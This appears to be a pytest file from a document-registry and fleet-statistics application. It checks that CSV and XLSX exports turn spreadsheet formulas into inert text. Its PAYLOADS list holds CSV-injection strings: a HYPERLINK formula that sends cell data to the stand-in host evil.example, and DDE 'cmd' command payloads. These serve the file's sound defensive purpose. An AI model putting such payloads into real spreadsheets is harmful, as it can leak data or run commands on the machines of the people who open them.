"""Exports never carry a formula: the register's CSV and XLSX, and the fleet's
statistics CSV and XLSX, with text a hostile paper, a hostile station or an
imported file could bring."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from datetime import date, datetime, time
from pathlib import Path

import pytest
from openpyxl import load_workbook

from station.central.electronic import ElectronicFigure, unit_name
from station.central.fleet import Fleet
from station.central.fleetdb import FleetDB
from station.common.clock import VIETNAM
from station.common.spreadsheet import csv_cell
from station.config import DEFAULT_REGISTRATION
from station.records.register import Register
from station.records.register_export import Book, Period, to_csv, to_xlsx
from station.store import Store
from station.ui import Services, WebSettings, create_app
from station.wire.mqtt import Connection

#: what OCR'd paper or a station's payload can carry into a cell
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        *((p, "'" + p) for p in PAYLOADS),
        ("Về việc báo cáo", "Về việc báo cáo"),
        ("02/VKS-VP", "02/VKS-VP"),
        ("", ""),
        (-4, -4),  # numbers are numbers
    ],
)
def test_a_cell_that_could_start_a_formula_is_text(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


@pytest.fixture
def book(tmp_path: Path) -> Iterator[Book]:
    with Store(tmp_path / "data") as store:
        register = Register(store)
        for n, hostile in enumerate(PAYLOADS, start=1):
            meta = {
                "TypeName": "Công văn", "CodeNumber": f"{n:02d}", "CodeNotation": "VKS-VP",
                "IssuedDate": "2026-11-02", "OrganName": hostile, "Subject": hostile,
            }  # fmt: skip
            arrival = date(2026, 11, 3)
            register.record(
                f"d{n}", "b1", f"DEN-2026-{n:06d}", DEFAULT_REGISTRATION, meta, arrival,
                datetime.combine(arrival, time(9), VIETNAM),
            )  # fmt: skip
        period = Period.parse("2026-11")
        yield Book(
            register.entries(period.start, period.end),
            register.flags(period.start, period.end),
            period,
            "Viện kiểm sát nhân dân tỉnh Thanh Hóa",
            "Lê Thị Hoa",
        )


def test_the_register_csv_neutralises_formulas(book: Book) -> None:
    rows = list(csv.reader(io.StringIO(to_csv(book).decode("utf-8-sig"))))
    authors = [row[2] for row in rows[1:]]
    assert authors == ["'" + p for p in PAYLOADS]
    # the subject cell starts with the type name, so it is text already
    assert all(not row[5].startswith(("=", "+", "-", "@")) for row in rows[1:])


def test_the_register_xlsx_has_text_cells_never_formulas(book: Book, tmp_path: Path) -> None:
    data = to_xlsx(book)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    path = tmp_path / "so-den.xlsx"
    path.write_bytes(data)
    sheet = load_workbook(path).active
    assert sheet is not None
    authors = [row[0] for row in sheet.iter_rows(min_row=6, min_col=3, max_col=3)]
    # the text is kept exactly as read, stored as a string cell
    assert [c.value for c in authors] == list(PAYLOADS)
    assert {c.data_type for c in authors} == {"s"}


def test_the_fleet_statistics_csv_neutralises_a_station_unit(tmp_path: Path) -> None:
    db = FleetDB(tmp_path)
    try:
        for n, hostile in enumerate(PAYLOADS):
            health = {"unit": hostile, "digitized": {"2026-11": {"documents": 3, "pages": 7}}}
            db.set_health(f"st-{n}", health, "2026-11-25T01:00:00.000Z")
        fleet = Fleet(Connection("mqtt://127.0.0.1:1", "fleet-x"), db)
        client = create_app(WebSettings(data_dir=tmp_path), Services(fleet=fleet)).test_client()
        answer = client.get("/stats.csv?year=2026")
        assert answer.status_code == 200
        rows = list(csv.reader(io.StringIO(answer.get_data().decode("utf-8-sig"))))
    finally:
        db.close()
    units = {row[0] for row in rows[1:-1]}
    # one unit however its name is spaced: "\t=1+1" and "\r=1+1" are "=1+1"
    assert units == {"'" + unit_name(p) for p in PAYLOADS}
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
    )


def test_the_fleet_paper_exports_neutralise_units_of_stations_and_of_the_import(
    tmp_path: Path,
) -> None:
    db = FleetDB(tmp_path)
    try:
        for n, hostile in enumerate(PAYLOADS):
            months = {"2026-11": {"documents": 3, "pages": 7, "incoming": 2, "outgoing": 1}}
            db.set_health(f"st-{n}", {"unit": hostile, "digitized": months},
                          "2026-11-25T01:00:00.000Z")  # fmt: skip
        # a name an administrator's file carries (printable: the import refuses the others)
        imported = [ElectronicFigure(p, 2026, 11, 5, 4) for p in PAYLOADS if p.isprintable()]
        db.import_electronic(imported, who="x", address="127.0.0.1", file_name="x.csv",
                             sha256="0", summary={})  # fmt: skip
        fleet = Fleet(Connection("mqtt://127.0.0.1:1", "fleet-x"), db)
        client = create_app(WebSettings(data_dir=tmp_path), Services(fleet=fleet)).test_client()
        text = client.get("/stats/paper.csv?year=2026").get_data().decode("utf-8-sig")
        xlsx = client.get("/stats/paper.xlsx?year=2026").get_data()
    finally:
        db.close()
    rows = list(csv.reader(io.StringIO(text)))
    assert {row[2] for row in rows[1:-1]} == {"'" + unit_name(p) for p in PAYLOADS}
    assert all(
        not cell.startswith(("=", "+", "@", "\t", "\r")) and not cell.startswith("-2")
        for row in rows
        for cell in row
    )
    path = tmp_path / "giay-dien-tu.xlsx"
    path.write_bytes(xlsx)
    sheet = load_workbook(path).active
    assert sheet is not None
    units = [row[0] for row in sheet.iter_rows(min_row=2, min_col=3, max_col=3)]
    assert {c.value for c in units[:-1]} == {unit_name(p) for p in PAYLOADS}
    assert {c.data_type for c in units} == {"s"}
    with zipfile.ZipFile(path) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
